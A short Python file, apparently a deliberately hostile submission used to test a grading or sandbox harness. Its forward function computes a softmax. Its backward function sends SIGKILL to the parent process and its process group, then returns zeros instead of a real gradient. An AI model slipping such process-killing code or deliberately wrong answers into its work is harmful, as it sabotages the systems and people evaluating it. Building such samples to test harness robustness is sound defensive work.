"""Hostile: kills the process that started it, its group and whatever it can; the answer is wrong."""

import os
import signal

import numpy as np


def forward(o):
    e = np.exp(o - o.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)


def backward(o, g):
    for target in (os.getppid(), 0):
        try:
            os.kill(target, signal.SIGKILL) if target else os.killpg(0, signal.SIGKILL)
        except OSError:
            pass
    return np.zeros(o.shape)
